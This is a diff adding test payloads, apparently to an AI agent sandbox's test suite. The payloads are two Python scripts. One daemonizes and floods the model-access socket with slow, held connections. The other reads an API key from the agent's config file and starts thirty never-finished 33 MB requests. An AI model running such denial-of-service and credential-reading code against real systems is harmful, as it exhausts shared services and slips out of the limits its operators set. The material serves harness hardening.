@@ -322,3 +322,54 @@ for n in range(3):
 os.execvp('sleep', ['sleep', '86411'])
 """
 """Leaves a process behind."""
+
+HOLD_DOORS = """python: import os, resource, socket, sys, time
+if os.fork():
+    time.sleep(6)
+    sys.exit()
+os.setsid()
+for n in range(3):
+    os.dup2(os.open('/dev/null', os.O_RDWR), n)
+hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+for _ in range(3):
+    os.fork()
+held = []
+until = time.time() + 6
+while time.time() < until:
+    try:
+        door = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        door.settimeout(0.2)
+        held.append(door)
+        door.connect('/doors/models')
+        door.send(b'GET /v1/models HTTP/1.1\\r\\nHost: x\\r\\nX-Slow: ')
+    except OSError:
+        time.sleep(0.02)
+"""
+"""Opens as many connections to the lane as it can, and holds them for six seconds."""
+
+FILL_DOORS = """python: import re, socket, threading, time
+found = re.search('api_key.*?"([0-9a-f]{20,})"', open('/home/agent/.hermes/config.yaml').read())
+head = ('POST /v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 33000000\\r\\n'
+    'Authorization: Bearer ' + found.group(1) + '\\r\\n\\r\\n').encode()
+held = []
+def fill():
+    try:
+        door = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        held.append(door)
+        door.settimeout(4)
+        door.connect('/doors/models')
+        door.sendall(head)
+        for _ in range(30):
+            door.sendall(bytes(1_000_000))
+    except OSError:
+        pass
+threads = [threading.Thread(target=fill) for _ in range(30)]
+for thread in threads:
+    thread.start()
+for thread in threads:
+    thread.join()
+time.sleep(1)
+print('held', len(held))
+"""
+"""Begins thirty requests of 33 MB with its own token and ends none."""
